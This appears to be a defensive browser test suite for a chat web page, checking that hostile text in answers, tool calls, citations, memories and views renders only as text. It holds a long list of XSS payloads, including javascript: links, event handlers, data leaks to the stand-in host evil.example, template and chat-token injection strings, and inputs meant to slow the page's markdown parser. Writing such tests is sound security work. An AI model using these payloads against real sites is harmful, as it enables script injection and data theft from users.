"""Hostile texts, wherever they come from, stay text: nothing runs, nothing is loaded, nothing is slow."""

from __future__ import annotations

import pytest

from service.page.desk_parts import make_section, show_text
from tests.service.page.page_double import PageDouble
from tests.service.page.page_driver import PageTab

pytestmark = pytest.mark.slow

PAYLOADS = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<a href=javascript:pwned()>x</a>",
    "<math><mtext></mtext><script>pwned()</script></math>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<template><script>pwned()</script></template>",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "--><script>pwned()</script>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<img src=`x` onerror=pwned()>",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java\tscript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](vbscript:pwned())",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/v1/me)",
    '[x](https://evil.example "onmouseover=pwned()")',
    '[x](https://evil.example" onmouseover="pwned())',
    "[<img src=x onerror=pwned()>](https://evil.example)",
    "![x](https://evil.example/?stolen=secret)",
    '![x" onerror="pwned()](x)',
    "[x]: javascript:pwned()\n\n[x]",
    "<javascript:pwned()>",
    "https://evil.example/<script>pwned()</script>",
    "`<script>pwned()</script>`",
    "```<script>pwned()</script>\n<script>pwned()</script>\n```",
    '``` "><script>pwned()</script>\nx\n```',
    "| <script>pwned()</script> | b |\n|---|---|\n| <img src=x onerror=pwned()> | c |",
    "> <script>pwned()</script>",
    "- <script>pwned()</script>\n  - <img src=x onerror=pwned()>",
    "# <script>pwned()</script>",
    "**<script>pwned()</script>**",
    "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %>",
    "\u202e<script>pwned()</script>\u2066\x00\x1b[31m",
    "%3Cscript%3Epwned()%3C/script%3E",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "<|end|><|user|>pwned()",
]
ELEMENTS = (
    "script:not([src='page.js']), iframe, object, embed, form:not(#composer), base, meta[http-equiv], style, img, video"
)
LINKS = "[...document.querySelectorAll('main a, dialog a')].map((each) => each.protocol)"


def check_nothing_happened(tab: PageTab) -> None:
    """Click on everything in the answers, then look for what must not be there."""
    tab.evaluate("document.querySelectorAll('summary').forEach((each) => each.click())")
    tab.evaluate("new Promise((resolve) => setTimeout(resolve, 50))")
    assert tab.evaluate("alarms") == []
    assert tab.evaluate(f'document.querySelectorAll("{ELEMENTS}").length') == 0
    assert set(tab.evaluate(LINKS)) <= {"http:", "https:", "mailto:"}


def test_hostile_answers_are_text(tab: PageTab, double: PageDouble) -> None:
    assert len(PAYLOADS) >= 50
    double.ask(*[f"{payload}\n\n" for payload in PAYLOADS])
    tab.send("go")
    tab.finish()
    check_nothing_happened(tab)
    shown = tab.evaluate("document.querySelector('article[aria-busy] .text').textContent")
    assert shown.count("<script>pwned()</script>") >= 15  # as they were written
    assert all(
        link.startswith("https://evil.example")
        for link in tab.evaluate("[...document.querySelectorAll('.text a')].map((each) => each.href)")
    )


def test_hostile_questions_titles_and_searches_are_text(tab: PageTab, double: PageDouble) -> None:
    for number, payload in enumerate(PAYLOADS[::6]):
        tab.click("#new")
        tab.wait("!document.querySelector('article')")
        tab.send(payload.replace("\n", " ") + f" {number}")
        tab.finish()
    tab.evaluate("document.querySelector('#search').focus()")
    tab.type("pwned")
    tab.wait("document.querySelectorAll('#history li').length > 3")
    check_nothing_happened(tab)


def test_hostile_tools_citations_notices_and_memories_are_text(tab: PageTab, double: PageDouble) -> None:
    for payload in PAYLOADS[::3]:
        double.replies.append(
            [
                {"type": "recalled", "number": 1, "text": payload, "source": payload},
                {"type": "tool_call", "number": 1, "name": payload, "arguments": {payload: payload}},
                {"type": "tool_result", "number": 1, "text": payload, "is_error": True, "decision": payload},
                {"type": "notice", "text": payload},
                {
                    "type": "citation",
                    "doc_id": payload,
                    "title": payload,
                    "heading": [payload],
                    "start": 0,
                    "end": 5,
                    "url": payload,
                }
                | {"license": payload, "sha256": payload, "text": payload, "passage": {"text": payload, "start": 0}},
                f'"{payload}" [{payload}]',
            ]
        )
    for number in range(1, len(PAYLOADS[::3]) + 1):
        tab.send("go")
        tab.finish(number)
        tab.evaluate("[...document.querySelectorAll('.sources')].at(-1).querySelector('button').click()")
        check_nothing_happened(tab)
        tab.press("Escape")
    double.memories = [
        {"number": number, "text": payload, "source": payload} for number, payload in enumerate(PAYLOADS)
    ]
    tab.click("#memories")
    tab.wait(f"document.querySelectorAll('#panel li').length === {len(PAYLOADS)}")
    check_nothing_happened(tab)


def test_hostile_views_are_text(tab: PageTab, double: PageDouble) -> None:
    rows = [[show_text(payload), {"text": payload, "open": "/v1/detail"}, payload] for payload in PAYLOADS]
    double.desks = [{"name": "x", "title": PAYLOADS[0], "url": "/v1/desk"}]
    double.data = {
        "desk": {
            "about": PAYLOADS[1],
            "sections": [make_section(PAYLOADS[2], PAYLOADS[:3], rows)],
            "tiles": [PAYLOADS[3:5]],
        },
        "detail": {
            "title": PAYLOADS[5],
            "text": "\n\n".join(PAYLOADS),
            "rows": [[payload] * 3 for payload in PAYLOADS],
        },
    }
    tab.reload()
    tab.evaluate("location.hash = '#/d/x'")
    tab.wait("document.querySelector('#desk table')")
    tab.click("#desk td button")
    tab.wait("document.querySelector('#panel').open")
    check_nothing_happened(tab)


def test_the_policy_stops_what_a_text_that_got_through_would_do(tab: PageTab) -> None:
    """The second line of defense: were markup made of a text after all, the browser would refuse it."""
    refused = tab.evaluate(
        "(() => { try { document.body.innerHTML = '<b>x</b>'; return false; } catch { return true; } })()"
    )
    assert refused
    tab.evaluate(
        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/x.png'}))"
    )
    tab.evaluate("fetch('https://evil.example/').catch(() => {})")
    tab.wait("alarms.filter((each) => each.startsWith('policy')).length >= 3")
    tab.evaluate("alarms.length = 0")
    tab.requests.clear()


LONG_TEXTS = [
    "[" * 60_000,
    "![" * 30_000,
    "[a](" * 15_000,
    "*a " * 20_000,
    "**a" * 20_000,
    "_a" * 30_000 + " _b" * 5_000,
    "`" * 60_000,
    "".join("`" * (number % 300 + 1) + " " for number in range(400)),
    "> " * 3_000 + "x",
    "".join(f"{'  ' * number}- x\n" for number in range(150)),
    "|a|" * 10_000 + "\n" + "|-|" * 10_000,
    "# " * 30_000,
    "- - - - " * 5_000 + "x",
    "\\" * 60_000,
    "https://a.example/" * 3_000,
    '"' * 60_000,
    "x\n" * 20_000,
]


def test_long_hostile_texts_do_not_stop_the_page(tab: PageTab, double: PageDouble) -> None:
    citation = {"type": "citation", "title": "t", "heading": [], "start": 0, "end": 1, "text": '"' * 50, "sha256": ""}
    tab.call("Performance.enable", timeDomain="threadTicks")
    for text in LONG_TEXTS:
        tab.click("#new")
        tab.wait("!document.querySelector('article')")
        double.ask(citation, text)
        before = read_script_seconds(tab)
        tab.send("go")
        tab.finish()
        assert read_script_seconds(tab) - before < 2.0, (text[:20], len(text))


def read_script_seconds(tab: PageTab) -> float:
    """Return the seconds that scripts have run."""
    metrics = {each["name"]: each["value"] for each in tab.call("Performance.getMetrics")["metrics"]}
    return metrics["ScriptDuration"]
